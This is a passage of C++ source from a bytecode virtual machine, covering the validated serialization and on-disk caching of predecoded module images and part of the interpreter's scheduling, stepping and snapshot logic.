    for (std::uint32_t g = 0; g < nglobals; ++g) {
        std::string name = r.str(kMaxName);
        std::int64_t size = r.i64();
        std::string init = r.str(kMaxInit);
        m->addGlobal(name, size, std::move(init));
    }
    std::uint32_t nfns = r.count(4 + 4 + 4 + 4);
    for (std::uint32_t f = 0; f < nfns; ++f) {
        std::string name = r.str(kMaxName);
        std::int32_t nparams = r.i32();
        std::int32_t nregs = r.i32();
        if (nparams < 0 || nregs < 0 || nparams > nregs ||
            nregs > (1 << 20))
            throw BadImage{};
        ir::Function &fn = m->addFunction(name, nparams);
        fn.reserveRegs(nregs);
        std::uint32_t nblocks = r.count(4);
        for (std::uint32_t b = 0; b < nblocks; ++b) {
            ir::BasicBlock &bb = fn.newBlock();
            std::uint32_t ninstrs = r.count(1 + 4 + 13 + 13 + 4 + 36);
            bb.instrs().reserve(ninstrs);
            for (std::uint32_t i = 0; i < ninstrs; ++i) {
                ir::Instr in;
                std::uint8_t op = r.u8();
                if (op >= static_cast<std::uint8_t>(ir::kNumOpcodes))
                    throw BadImage{};
                in.op = static_cast<ir::Opcode>(op);
                in.dst = r.i32();
                in.a = getOperand(r);
                in.b = getOperand(r);
                std::uint32_t nargs = r.count(13);
                in.args.reserve(nargs);
                for (std::uint32_t a = 0; a < nargs; ++a)
                    in.args.push_back(getOperand(r));
                in.callee = r.i32();
                in.imm = r.i64();
                in.size = r.i32();
                in.target0 = r.i32();
                in.target1 = r.i32();
                in.site = r.i32();
                in.loc.line = r.i32();
                in.loc.col = r.i32();
                bb.instrs().push_back(std::move(in));
            }
        }
    }
    return m;
}

constexpr std::size_t kCodeEntrySize =
    1 + 1 + 1 + 1 + 4 + 8 + 8 + 8 + 4 + 4 + 4 + 4 + 4 + 2;

void
putDecoded(Writer &w, const DecodedFunction &df)
{
    w.u32(static_cast<std::uint32_t>(df.numInstrs()));
    w.u32(static_cast<std::uint32_t>(df.numBlocks()));
    w.u32(static_cast<std::uint32_t>(df.numHists()));
    for (std::size_t b = 0; b < df.numBlocks(); ++b)
        w.u32(df.blockStart(static_cast<int>(b)));
    const DecodedInstr *code = df.code();
    for (std::size_t i = 0; i < df.numInstrs(); ++i) {
        const DecodedInstr &d = code[i];
        w.u8(static_cast<std::uint8_t>(d.op));
        w.u8(d.flags);
        w.u8(d.size);
        w.u8(d.xop);
        w.i32(d.dst);
        w.i64(d.a);
        w.i64(d.b);
        w.i64(d.imm);
        w.i32(d.target0);
        w.i32(d.target1);
        w.i32(d.block);
        w.i32(d.ip);
        w.i32(d.histIdx);
        w.u16(d.runLen);
    }
    for (std::size_t h = 0; h < df.numHists(); ++h) {
        const RunHist &hist = df.hist(static_cast<std::int32_t>(h));
        w.u32(static_cast<std::uint32_t>(hist.size()));
        for (const auto &[op, cnt] : hist) {
            w.u8(static_cast<std::uint8_t>(op));
            w.u32(cnt);
        }
    }
}

/**
 * Parse and fully validate one function's decoded stream against the
 * already-verified @p fn. Every field is either bounds-checked or
 * required to equal what predecoding @p fn would produce (the run
 * metadata, histograms, and fusion marks are recomputed here with the
 * decoder's exact rules), so an adopted stream is indistinguishable
 * from a freshly built one.
 */
std::unique_ptr<DecodedFunction>
getDecoded(Reader &r, const ir::Function &fn,
           const ir::Module &module)
{
    std::uint32_t ninstrs = r.count(kCodeEntrySize);
    std::uint32_t nblocks = r.count(0);
    std::uint32_t nhists = r.count(0);
    if (nblocks != fn.numBlocks())
        throw BadImage{};
    r.need(nblocks * std::size_t{4});

    // Block starts must be the cumulative block sizes of fn.
    std::vector<std::uint32_t> block_start(nblocks);
    std::size_t total = 0;
    for (std::uint32_t b = 0; b < nblocks; ++b) {
        block_start[b] = r.u32();
        if (block_start[b] != total)
            throw BadImage{};
        total += fn.block(static_cast<int>(b)).instrs().size();
    }
    if (ninstrs != total)
        throw BadImage{};

    int num_regs = fn.numRegs();
    std::vector<DecodedInstr> code(ninstrs);
    for (std::uint32_t i = 0; i < ninstrs; ++i) {
        DecodedInstr &d = code[i];
        std::uint8_t op = r.u8();
        if (op >= static_cast<std::uint8_t>(ir::kNumOpcodes))
            throw BadImage{};
        d.op = static_cast<ir::Opcode>(op);
        d.flags = r.u8();
        d.size = r.u8();
        d.xop = r.u8();
        d.dst = r.i32();
        d.a = r.i64();
        d.b = r.i64();
        d.imm = r.i64();
        d.target0 = r.i32();
        d.target1 = r.i32();
        d.block = r.i32();
        d.ip = r.i32();
        d.histIdx = r.i32();
        d.runLen = r.u16();

        // Coordinates first: everything else cross-checks through the
        // source instruction they name.
        if (d.block < 0 ||
            static_cast<std::uint32_t>(d.block) >= nblocks ||
            d.ip < 0 ||
            block_start[static_cast<std::uint32_t>(d.block)] +
                    static_cast<std::uint32_t>(d.ip) != i)
            throw BadImage{};
        const ir::Instr &in =
            fn.block(d.block).instrs()[static_cast<std::size_t>(d.ip)];
        if (in.op != d.op || in.dst != d.dst)
            throw BadImage{};

        std::uint8_t flags = 0;
        if (isSlowOpcode(in.op))
            flags |= DecodedInstr::kSlow;
        if (in.op == ir::Opcode::Br || in.op == ir::Opcode::CondBr ||
            in.op == ir::Opcode::Ret)
            flags |= DecodedInstr::kTerm;
        if (in.a.isReg())
            flags |= DecodedInstr::kAReg;
        if (in.b.isReg())
            flags |= DecodedInstr::kBReg;
        if (d.flags != flags || d.size != static_cast<std::uint8_t>(
                                              in.size))
            throw BadImage{};
        if (d.a != ((d.flags & DecodedInstr::kAReg)
                        ? in.a.reg
                        : (in.a.isImm() ? in.a.imm : 0)) ||
            ((d.flags & DecodedInstr::kAReg) &&
             (d.a < 0 || d.a >= num_regs)))
            throw BadImage{};
        if (d.b != ((d.flags & DecodedInstr::kBReg)
                        ? in.b.reg
                        : (in.b.isImm() ? in.b.imm : 0)) ||
            ((d.flags & DecodedInstr::kBReg) &&
             (d.b < 0 || d.b >= num_regs)))
            throw BadImage{};

        // Pre-resolved payloads per opcode (mirrors the decoder).
        switch (in.op) {
          case ir::Opcode::Alloca:
            if (d.imm != static_cast<std::int64_t>(
                    (static_cast<std::uint64_t>(
                         std::max<std::int64_t>(8, in.imm)) + 7) &
                    ~std::uint64_t{7}))
                throw BadImage{};
            break;
          case ir::Opcode::FnAddr:
            if (d.imm != in.callee)
                throw BadImage{};
            break;
          case ir::Opcode::GlobalAddr:
            if (d.imm != in.imm || d.imm < 0 ||
                d.imm >= static_cast<std::int64_t>(module.numGlobals()))
                throw BadImage{};
            break;
          case ir::Opcode::Br:
            if (in.target0 < 0 ||
                static_cast<std::uint32_t>(in.target0) >= nblocks ||
                d.target0 != static_cast<std::int32_t>(
                    block_start[static_cast<std::uint32_t>(
                        in.target0)]))
                throw BadImage{};
            break;
          case ir::Opcode::CondBr:
            if (in.target0 < 0 || in.target1 < 0 ||
                static_cast<std::uint32_t>(in.target0) >= nblocks ||
                static_cast<std::uint32_t>(in.target1) >= nblocks ||
                d.target0 != static_cast<std::int32_t>(
                    block_start[static_cast<std::uint32_t>(
                        in.target0)]) ||
                d.target1 != static_cast<std::int32_t>(
                    block_start[static_cast<std::uint32_t>(
                        in.target1)]))
                throw BadImage{};
            break;
          default:
            if (d.imm != in.imm)
                throw BadImage{};
            break;
        }
        d.src = &in;
    }

    // Histograms as serialized.
    std::vector<RunHist> hists(nhists);
    for (std::uint32_t h = 0; h < nhists; ++h) {
        std::uint32_t n = r.count(1 + 4);
        hists[h].reserve(n);
        for (std::uint32_t e = 0; e < n; ++e) {
            std::uint8_t op = r.u8();
            std::uint32_t cnt = r.u32();
            if (op >= static_cast<std::uint8_t>(ir::kNumOpcodes))
                throw BadImage{};
            hists[h].emplace_back(static_cast<ir::Opcode>(op), cnt);
        }
    }

    // Recompute the run metadata with the decoder's rules and demand
    // the serialized values match exactly — the fast path trusts
    // runLen/histIdx blindly, so they must be provably consistent.
    std::size_t pos = 0;
    std::uint32_t hist_count = 0;
    while (pos < code.size()) {
        if (code[pos].isSlow()) {
            if (code[pos].runLen != 1 || code[pos].histIdx != -1)
                throw BadImage{};
            ++pos;
            continue;
        }
        std::size_t end = pos;
        int block = code[pos].block;
        while (end < code.size() && !code[end].isSlow() &&
               code[end].block == block && end - pos < 0xffff)
            ++end;
        std::array<std::uint32_t,
                   static_cast<std::size_t>(ir::kNumOpcodes)>
            counts{};
        for (std::size_t i = pos; i < end; ++i)
            ++counts[static_cast<std::size_t>(code[i].op)];
        RunHist expect;
        for (std::size_t o = 0; o < counts.size(); ++o) {
            if (counts[o])
                expect.emplace_back(static_cast<ir::Opcode>(o),
                                    counts[o]);
        }
        if (code[pos].histIdx !=
                static_cast<std::int32_t>(hist_count) ||
            hist_count >= hists.size() || hists[hist_count] != expect)
            throw BadImage{};
        ++hist_count;
        for (std::size_t i = pos; i < end; ++i) {
            if (code[i].runLen !=
                    static_cast<std::uint16_t>(end - i) ||
                (i != pos && code[i].histIdx != -1))
                throw BadImage{};
        }
        pos = end;
    }
    if (hist_count != hists.size())
        throw BadImage{};

    // Fusion marks likewise.
    for (std::size_t i = 0; i < code.size(); ++i) {
        std::uint8_t expect = static_cast<std::uint8_t>(code[i].op);
        if (code[i].runLen >= 2) {
            std::uint8_t f = fusedXop(code[i].op, code[i + 1].op);
            if (f)
                expect = f;
        }
        if (code[i].xop != expect)
            throw BadImage{};
    }

    return std::make_unique<DecodedFunction>(
        std::move(code), std::move(block_start), std::move(hists));
}

/** Fold @p bytes into a running FNV-1a digest @p h. */
std::uint64_t
fnv1aChain(std::uint64_t h, const std::string &bytes)
{
    for (char c : bytes) {
        h ^= static_cast<unsigned char>(c);
        h *= 0x100000001b3ULL;
    }
    return h;
}

/** FNV-1a offset basis (obs::fnv1a's starting state). */
constexpr std::uint64_t kFnvBasis = 0xcbf29ce484222325ULL;

} // namespace

std::string
serializeImage(const ir::Module &module, bool instrumented,
               std::uint64_t content_hash)
{
    Writer payload;
    putModule(payload, module);
    PredecodedModule decoded(module);
    decoded.decodeAll();
    for (std::size_t f = 0; f < module.numFunctions(); ++f)
        putDecoded(payload, decoded.function(static_cast<int>(f)));

    Writer w;
    w.out.append(kImageMagic, sizeof(kImageMagic));
    w.u32(kImageEndianTag);
    w.u32(kImageVersion);
    w.u32(instrumented ? kImageFlagInstrumented : 0);
    w.u32(0); // reserved
    w.u64(content_hash);
    // The digest covers the header prefix written so far (magic
    // through contentHash) plus the payload, so a bit flip anywhere
    // except inside this very field fails the hash check.
    w.u64(fnv1aChain(fnv1aChain(kFnvBasis, w.out), payload.out));
    w.u64(payload.out.size());
    w.out.append(payload.out);
    return std::move(w.out);
}

std::optional<LoadedImage>
loadImage(const std::string &bytes)
{
    try {
        if (bytes.size() < kHeaderSize ||
            std::memcmp(bytes.data(), kImageMagic,
                        sizeof(kImageMagic)) != 0)
            return std::nullopt;
        Reader r{bytes, sizeof(kImageMagic)};
        if (r.u32() != kImageEndianTag || r.u32() != kImageVersion)
            return std::nullopt;
        std::uint32_t flags = r.u32();
        r.u32(); // reserved
        std::uint64_t content_hash = r.u64();
        std::uint64_t payload_hash = r.u64();
        std::uint64_t payload_size = r.u64();
        if (payload_size != bytes.size() - kHeaderSize)
            return std::nullopt;
        std::uint64_t digest = fnv1aChain(
            fnv1aChain(kFnvBasis, bytes.substr(0, kHashedPrefix)),
            bytes.substr(kHeaderSize));
        if (digest != payload_hash)
            return std::nullopt;

        LoadedImage img;
        img.contentHash = content_hash;
        img.instrumented = (flags & kImageFlagInstrumented) != 0;
        img.module = getModule(r);
        if (!ir::verifyModule(*img.module).empty())
            return std::nullopt;
        img.predecoded =
            std::make_shared<PredecodedModule>(*img.module);
        for (std::size_t f = 0; f < img.module->numFunctions(); ++f)
            img.predecoded->adopt(
                static_cast<int>(f),
                getDecoded(r, img.module->function(static_cast<int>(f)),
                           *img.module));
        if (r.remaining() != 0 || !img.predecoded->fullyDecoded())
            return std::nullopt;
        return img;
    } catch (const BadImage &) {
        return std::nullopt;
    } catch (const std::bad_alloc &) {
        return std::nullopt;
    }
}

std::uint64_t
imageKey(const std::string &source, bool instrumented)
{
    // Same recipe as the query cache: two fnv1a passes combined, with
    // the instrumentation variant folded into the text.
    std::string text = source;
    text += instrumented ? "\n#ldx-image:instr" : "\n#ldx-image:plain";
    std::uint64_t h1 = obs::fnv1a(text);
    std::uint64_t h2 = obs::fnv1a(text + "#2");
    return h1 ^ (h2 * 0x9e3779b97f4a7c15ULL);
}

std::string
imageCachePath(const std::string &dir, std::uint64_t key)
{
    char hex[17];
    std::snprintf(hex, sizeof(hex), "%016llx",
                  static_cast<unsigned long long>(key));
    return dir + "/" + hex + ".ldxi";
}

std::optional<LoadedImage>
probeImageCache(const std::string &dir, std::uint64_t key)
{
    std::ifstream in(imageCachePath(dir, key), std::ios::binary);
    if (!in)
        return std::nullopt;
    std::ostringstream ss;
    ss << in.rdbuf();
    std::string bytes = ss.str();
    auto img = loadImage(bytes);
    if (img && img->contentHash != key)
        return std::nullopt; // hash-collision rename or stale file
    return img;
}

bool
storeImageCache(const std::string &dir, std::uint64_t key,
                const ir::Module &module, bool instrumented)
{
    std::error_code ec;
    std::filesystem::create_directories(dir, ec);
    std::string path = imageCachePath(dir, key);
    std::string tmp = path + ".tmp";
    {
        std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
        if (!out)
            return false;
        std::string bytes = serializeImage(module, instrumented, key);
        out.write(bytes.data(),
                  static_cast<std::streamsize>(bytes.size()));
        if (!out)
            return false;
    }
    std::filesystem::rename(tmp, path, ec);
    return !ec;
}

} // namespace ldx::vm
