#include "vm/machine.h"

#include <algorithm>

#include "support/diag.h"

namespace ldx::vm {

namespace {

constexpr std::int64_t kTokenTag = 0x5a00000000000000LL;

} // namespace

const char *
dispatchModeName(DispatchMode mode)
{
    switch (mode) {
      case DispatchMode::Switch: return "switch";
      case DispatchMode::Threaded: return "threaded";
      case DispatchMode::Fused: return "fused";
    }
    return "?";
}

bool
parseDispatchMode(const std::string &name, DispatchMode &out)
{
    if (name == "switch")
        out = DispatchMode::Switch;
    else if (name == "threaded")
        out = DispatchMode::Threaded;
    else if (name == "fused")
        out = DispatchMode::Fused;
    else
        return false;
    return true;
}

Machine::Machine(const ir::Module &module, os::Kernel &kernel,
                 MachineConfig cfg)
    : module_(module), kernel_(kernel), cfg_(cfg),
      schedPrng_(cfg.schedSeed)
{
    // Lay out globals: 8-aligned, in declaration order.
    std::uint64_t offset = 0;
    globalAddrs_.resize(module.numGlobals());
    for (std::size_t g = 0; g < module.numGlobals(); ++g) {
        globalAddrs_[g] = Memory::kGlobalsBase + offset;
        std::uint64_t sz = static_cast<std::uint64_t>(
            std::max<std::int64_t>(8, module.global(
                static_cast<int>(g)).size));
        offset += (sz + 7) & ~std::uint64_t{7};
    }
    memory_ = std::make_unique<Memory>(
        offset, cfg.stackSize, cfg.maxThreads,
        kernel.heapBaseJitter());
    if (cfg.predecode) {
        if (cfg.predecoded) {
            // A shared predecoded module is read-only here, so it can
            // back many machines at once (both dual sides, campaign
            // pool workers) — but only if every slot is already built.
            checkInvariant(cfg.predecoded->fullyDecoded(),
                           "shared PredecodedModule must be decodeAll()ed");
            checkInvariant(&cfg.predecoded->module() == &module,
                           "shared PredecodedModule wraps another module");
            decodedShared_ = cfg.predecoded;
            decoded_ = decodedShared_.get();
        } else {
            decodedOwned_ = std::make_unique<PredecodedModule>(module);
            decoded_ = decodedOwned_.get();
        }
    }
    switch (cfg.dispatch) {
      case DispatchMode::Switch:
        dispatch_ = ResolvedDispatch::Switch;
        break;
      case DispatchMode::Threaded:
        dispatch_ = hasThreadedDispatch() ? ResolvedDispatch::Goto
                                          : ResolvedDispatch::Switch;
        break;
      case DispatchMode::Fused:
        dispatch_ = hasThreadedDispatch() ? ResolvedDispatch::GotoFused
                                          : ResolvedDispatch::Switch;
        break;
    }
    if (cfg_.siteProfile) {
        // Site indices are decoded-stream offsets, so the whole
        // program must be decoded up front: counters shaped once,
        // never resized mid-run.
        checkInvariant(decoded_ != nullptr,
                       "site profiling requires predecode");
        if (decodedOwned_)
            decodedOwned_->decodeAll();
        std::vector<std::size_t> sites(decoded_->numFunctions());
        for (std::size_t f = 0; f < sites.size(); ++f)
            sites[f] =
                decoded_->function(static_cast<int>(f)).numInstrs();
        cfg_.siteProfile->shape(sites);
        prof_ = cfg_.siteProfile;
    }
    for (std::size_t g = 0; g < module.numGlobals(); ++g) {
        const ir::Global &gl = module.global(static_cast<int>(g));
        if (!gl.init.empty())
            memory_->writeBytes(globalAddrs_[g], gl.init);
    }
}

void
Machine::start()
{
    checkInvariant(!started_, "Machine::start called twice");
    started_ = true;
    int main_fn = module_.mainFunction();
    if (main_fn < 0)
        fatal("module has no main()");
    newContext(main_fn, {});
}

Context &
Machine::newContext(int fn, std::vector<std::int64_t> args)
{
    if (static_cast<int>(contexts_.size()) >= cfg_.maxThreads)
        throw VmTrap(TrapKind::StackOverflow, "too many threads");
    auto ctx = std::make_unique<Context>();
    ctx->tid = static_cast<int>(contexts_.size());
    ctx->sp = memory_->stackTop(ctx->tid);
    Frame frame;
    frame.fn = fn;
    frame.block = ir::Function::entryBlockId;
    frame.ip = 0;
    frame.regs.assign(module_.function(fn).numRegs(), 0);
    for (std::size_t i = 0;
         i < args.size() &&
         i < static_cast<std::size_t>(module_.function(fn).numParams());
         ++i)
        frame.regs[i] = args[i];
    frame.spAtEntry = ctx->sp;
    ctx->frames.push_back(std::move(frame));
    contexts_.push_back(std::move(ctx));
    if (prof_)
        ++prof_->rootCalls[static_cast<std::size_t>(fn)];
    emitObsInstant(obs::RecKind::ThreadStart, "thread_start",
                   contexts_.back()->tid,
                   module_.function(fn).name());
    return *contexts_.back();
}

void
Machine::emitObsInstant(obs::RecKind kind, const char *name, int tid,
                        const std::string &detail)
{
    if (!obs_)
        return;
    if (obs_->recorder()) {
        obs::RecEvent evt;
        evt.kind = kind;
        evt.tid = static_cast<std::uint16_t>(tid);
        evt.arg = detail.empty() ? 0 : obs::fnv1a(detail);
        obs_->record(obsLane_, evt);
    }
    if (!obs_->tracing())
        return;
    obs::TraceRecord rec;
    rec.name = name;
    rec.lane = obsLane_;
    rec.tid = tid;
    if (!detail.empty())
        rec.strArgs = {{"detail", detail}};
    obs_->emit(std::move(rec));
}

std::int64_t
Machine::eval(const Context &ctx, const ir::Operand &op) const
{
    switch (op.kind) {
      case ir::Operand::Kind::Reg:
        return ctx.frames.back().regs[op.reg];
      case ir::Operand::Kind::Imm:
        return op.imm;
      case ir::Operand::Kind::None:
        return 0;
    }
    return 0;
}

void
Machine::setReg(Context &ctx, int reg, std::int64_t v)
{
    if (reg >= 0)
        ctx.frames.back().regs[reg] = v;
}

std::int64_t
Machine::makeToken(int fn, int block, int ip) const
{
    return kTokenTag |
           (static_cast<std::int64_t>(fn + 1) << 36) |
           (static_cast<std::int64_t>(block + 1) << 16) |
           static_cast<std::int64_t>(ip + 1);
}

int
Machine::pickContext()
{
    auto pollable = [&](int i) {
        Context::State s = contexts_[i]->state;
        return s == Context::State::Runnable ||
               s == Context::State::BlockedPort;
    };
    int n = static_cast<int>(contexts_.size());
    if (curCtx_ >= 0 && curCtx_ < n && sliceLeft_ > 0 &&
        pollable(curCtx_))
        return curCtx_;
    // Rotate: next pollable context after curCtx_.
    for (int d = 1; d <= n; ++d) {
        int i = (curCtx_ + d + n) % n;
        if (pollable(i)) {
            curCtx_ = i;
            sliceLeft_ = cfg_.quantum;
            if (cfg_.schedJitter) {
                sliceLeft_ = 1 + static_cast<int>(schedPrng_.below(
                    static_cast<std::uint64_t>(
                        std::max(1, cfg_.quantum * 2))));
            }
            return i;
        }
    }
    return -1;
}

StepStatus
Machine::step()
{
    checkInvariant(started_, "Machine::step before start");
    if (finished_)
        return trap_ ? StepStatus::Trapped : StepStatus::Finished;
    if (pausePending_)
        return StepStatus::Stalled;

    int n = static_cast<int>(contexts_.size());
    std::vector<bool> tried(static_cast<std::size_t>(n), false);
    for (int attempts = 0; attempts < n; ++attempts) {
        int c = pickContext();
        if (c < 0)
            return settleNoPollable();
        if (tried[static_cast<std::size_t>(c)])
            return StepStatus::Stalled;
        tried[static_cast<std::size_t>(c)] = true;

        Context &ctx = *contexts_[c];
        bool progressed = false;
        try {
            progressed = executeOne(ctx);
        } catch (const VmTrap &trap) {
            const Frame &fr = ctx.frames.back();
            const ir::Instr &instr =
                module_.function(fr.fn).block(fr.block).instrs()[
                    static_cast<std::size_t>(fr.ip)];
            trap_ = TrapInfo{trap.kind(), trap.what(), ctx.tid,
                             instr.loc};
            emitObsInstant(obs::RecKind::Trap, "trap", ctx.tid,
                           trap_->message);
            finished_ = true;
            if (port_)
                port_->onFinished(*this);
            return StepStatus::Trapped;
        }
        if (finished_)
            return trap_ ? StepStatus::Trapped : StepStatus::Finished;
        if (progressed) {
            --sliceLeft_;
            return StepStatus::Progress;
        }
        // Pause before the rotate bookkeeping: the scheduler state
        // stays exactly what it was going into this blocked attempt.
        if (pausePending_)
            return StepStatus::Stalled;
        // Blocked; rotate to the next candidate.
        sliceLeft_ = 0;
    }
    return StepStatus::Stalled;
}

StepStatus
Machine::settleNoPollable()
{
    bool all_done = true;
    for (const auto &ctx : contexts_) {
        if (ctx->state != Context::State::Done)
            all_done = false;
    }
    if (all_done) {
        // Main returning finishes the program, so reaching here
        // means auxiliary threads outlived main; treat as finished.
        finished_ = true;
        if (port_)
            port_->onFinished(*this);
        return StepStatus::Finished;
    }
    trap_ = TrapInfo{TrapKind::BadSyscall,
                     "guest deadlock: all threads blocked", 0, {}};
    emitObsInstant(obs::RecKind::Trap, "trap", 0, trap_->message);
    finished_ = true;
    if (port_)
        port_->onFinished(*this);
    return StepStatus::Trapped;
}

StepStatus
Machine::stepMany(std::uint64_t budget, std::uint64_t &retired)
{
    retired = 0;
    checkInvariant(started_, "Machine::stepMany before start");
    if (finished_)
        return trap_ ? StepStatus::Trapped : StepStatus::Finished;
    if (pausePending_)
        return StepStatus::Stalled;

    if (!useFastPath()) {
        // Legacy oracle path: byte-for-byte the seed interpreter.
        while (retired < budget) {
            StepStatus st = step();
            if (st != StepStatus::Progress)
                return st;
            ++retired;
        }
        return StepStatus::Progress;
    }

    ++triedGen_;
    while (retired < budget) {
        int c = pickContext();
        if (c < 0)
            return settleNoPollable();
        if (triedSeen_.size() < contexts_.size())
            triedSeen_.resize(contexts_.size(), 0);
        if (triedSeen_[static_cast<std::size_t>(c)] == triedGen_)
            return StepStatus::Stalled;

        Context &ctx = *contexts_[static_cast<std::size_t>(c)];
        std::uint64_t got = 0;
        try {
            Frame &fr = ctx.frames.back();
            const DecodedFunction &df = decoded_->function(fr.fn);
            const DecodedInstr &head =
                df.code()[df.blockStart(fr.block) +
                          static_cast<std::uint32_t>(fr.ip)];
            if (head.isSlow()) {
                if (executeOne(ctx)) {
                    got = 1;
                    --sliceLeft_;
                }
            } else {
                std::uint64_t limit = budget - retired;
                if (limit > static_cast<std::uint64_t>(sliceLeft_))
                    limit = static_cast<std::uint64_t>(sliceLeft_);
                // One profiled-or-not branch per run batch; each
                // instantiation compiles its counting in or out.
                switch (dispatch_) {
                  case ResolvedDispatch::Switch:
                    got = prof_ ? fastRun<true>(ctx, limit)
                                : fastRun<false>(ctx, limit);
                    break;
#if LDX_HAS_COMPUTED_GOTO
                  case ResolvedDispatch::Goto:
                    got = prof_
                              ? fastRunThreaded<false, true>(ctx, limit)
                              : fastRunThreaded<false, false>(ctx,
                                                              limit);
                    break;
                  case ResolvedDispatch::GotoFused:
                    got = prof_
                              ? fastRunThreaded<true, true>(ctx, limit)
                              : fastRunThreaded<true, false>(ctx,
                                                             limit);
                    break;
#else
                  default:
                    // The ctor resolves Threaded/Fused to Switch when
                    // computed goto is unavailable; unreachable.
                    got = prof_ ? fastRun<true>(ctx, limit)
                                : fastRun<false>(ctx, limit);
                    break;
#endif
                }
                sliceLeft_ -= static_cast<int>(got);
            }
        } catch (const VmTrap &trap) {
            const Frame &fr = ctx.frames.back();
            const ir::Instr &instr =
                module_.function(fr.fn).block(fr.block).instrs()[
                    static_cast<std::size_t>(fr.ip)];
            trap_ = TrapInfo{trap.kind(), trap.what(), ctx.tid,
                             instr.loc};
            emitObsInstant(obs::RecKind::Trap, "trap", ctx.tid,
                           trap_->message);
            finished_ = true;
            if (port_)
                port_->onFinished(*this);
            return StepStatus::Trapped;
        }
        retired += got;
        if (finished_)
            return trap_ ? StepStatus::Trapped : StepStatus::Finished;
        // Pause before the poll-set/slice bookkeeping (see step()).
        if (pausePending_)
            return StepStatus::Stalled;
        if (got > 0) {
            ++triedGen_; // progress resets the polled set
        } else {
            triedSeen_[static_cast<std::size_t>(c)] = triedGen_;
            sliceLeft_ = 0; // blocked; rotate to the next candidate
        }
    }
    return StepStatus::Progress;
}

StepStatus
Machine::run()
{
    start();
    while (true) {
        std::uint64_t retired = 0;
        StepStatus st = stepMany(1u << 20, retired);
        if (st == StepStatus::Finished || st == StepStatus::Trapped)
            return st;
        if (st == StepStatus::Stalled) {
            trap_ = TrapInfo{TrapKind::BadSyscall,
                             "stalled without a dual-execution driver",
                             0, {}};
            emitObsInstant(obs::RecKind::Trap, "trap", 0, trap_->message);
            finished_ = true;
            return StepStatus::Trapped;
        }
    }
}

MachineImage
Machine::captureImage() const
{
    MachineImage img;
    img.memory = memory_->snapshot();
    img.contexts.reserve(contexts_.size());
    for (const auto &ctx : contexts_)
        img.contexts.push_back(*ctx);
    img.curCtx = curCtx_;
    img.sliceLeft = sliceLeft_;
    img.schedPrng = schedPrng_;
    img.triedSeen = triedSeen_;
    img.triedGen = triedGen_;
    img.mutexOwner = mutexOwner_;
    img.mutexWaiters = mutexWaiters_;
    img.started = started_;
    img.finished = finished_;
    img.exitCode = exitCode_;
    img.trap = trap_;
    img.totalInstrs = totalInstrs_;
    img.totalSyscalls = totalSyscalls_;
    img.chaosCntAdds = chaosCntAdds_;
    img.totalBarriers = totalBarriers_;
    img.opCounts = opCounts_;
    return img;
}

void
Machine::restoreImage(const MachineImage &image,
                      std::uint64_t chaos_drop_page)
{
    checkInvariant(image.memory != nullptr,
                   "restoreImage on an empty MachineImage");
    memory_->restore(*image.memory, chaos_drop_page);
    contexts_.clear();
    contexts_.reserve(image.contexts.size());
    for (const Context &ctx : image.contexts)
        contexts_.push_back(std::make_unique<Context>(ctx));
    curCtx_ = image.curCtx;
    sliceLeft_ = image.sliceLeft;
    schedPrng_ = image.schedPrng;
    triedSeen_ = image.triedSeen;
    triedGen_ = image.triedGen;
    mutexOwner_ = image.mutexOwner;
    mutexWaiters_ = image.mutexWaiters;
    started_ = image.started;
    finished_ = image.finished;
    exitCode_ = image.exitCode;
    trap_ = image.trap;
    totalInstrs_ = image.totalInstrs;
    totalSyscalls_ = image.totalSyscalls;
    chaosCntAdds_ = image.chaosCntAdds;
    totalBarriers_ = image.totalBarriers;
    opCounts_ = image.opCounts;
    pausePending_ = false;
}

bool
Machine::executeOne(Context &ctx)
{
    Frame &fr = ctx.frames.back();
    const ir::Function &fn = module_.function(fr.fn);
    const ir::BasicBlock &bb = fn.block(fr.block);
    const ir::Instr &instr = bb.instrs()[static_cast<std::size_t>(fr.ip)];

    // Resolve the profile slots before the frame mutates (calls,
    // branches, returns all move fr); the pointers stay valid.
    std::uint64_t *prof_site = nullptr;
    std::uint64_t *prof_stall = nullptr;
    if (prof_) {
        const DecodedFunction &pdf = decoded_->function(fr.fn);
        std::uint32_t off = pdf.blockStart(fr.block) +
                            static_cast<std::uint32_t>(fr.ip);
        prof_site =
            &prof_->retired[static_cast<std::size_t>(fr.fn)][off];
        prof_stall =
            &prof_->stallPolls[static_cast<std::size_t>(fr.fn)][off];
    }

    if (totalInstrs_ >= cfg_.maxInstructions)
        throw VmTrap(TrapKind::BudgetExceeded,
                     "instruction budget exceeded");

    auto arith = [&](std::int64_t a, std::int64_t b) -> std::int64_t {
        switch (instr.op) {
          case ir::Opcode::Add: return a + b;
          case ir::Opcode::Sub: return a - b;
          case ir::Opcode::Mul: return a * b;
          case ir::Opcode::Div:
            if (b == 0)
                throw VmTrap(TrapKind::DivideByZero, "division by zero");
            if (a == INT64_MIN && b == -1)
                return INT64_MIN;
            return a / b;
          case ir::Opcode::Rem:
            if (b == 0)
                throw VmTrap(TrapKind::DivideByZero, "remainder by zero");
            if (a == INT64_MIN && b == -1)
                return 0;
            return a % b;
          case ir::Opcode::And: return a & b;
          case ir::Opcode::Or: return a | b;
          case ir::Opcode::Xor: return a ^ b;
          case ir::Opcode::Shl:
            return static_cast<std::int64_t>(
                static_cast<std::uint64_t>(a) << (b & 63));
          case ir::Opcode::Shr:
            return static_cast<std::int64_t>(
                static_cast<std::uint64_t>(a) >> (b & 63));
          case ir::Opcode::CmpEq: return a == b;
          case ir::Opcode::CmpNe: return a != b;
          case ir::Opcode::CmpLt: return a < b;
          case ir::Opcode::CmpLe: return a <= b;
          case ir::Opcode::CmpGt: return a > b;
          case ir::Opcode::CmpGe: return a >= b;
          default:
            panic("arith on non-arith opcode");
        }
    };

    auto account = [&]() {
        ++ctx.instrCount;
        ++totalInstrs_;
        ++opCounts_[static_cast<std::size_t>(instr.op)];
        kernel_.tickInstructions(1);
        profilePair(ctx, instr.op);
        if (prof_site)
            ++*prof_site;
    };

    std::uint64_t eff_addr = 0;
    std::int64_t result = 0;
    bool has_result = false;

    switch (instr.op) {
      case ir::Opcode::Const:
        setReg(ctx, instr.dst, instr.imm);
        result = instr.imm;
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::Move:
        result = eval(ctx, instr.a);
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::Neg:
        result = -eval(ctx, instr.a);
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::Not:
        result = ~eval(ctx, instr.a);
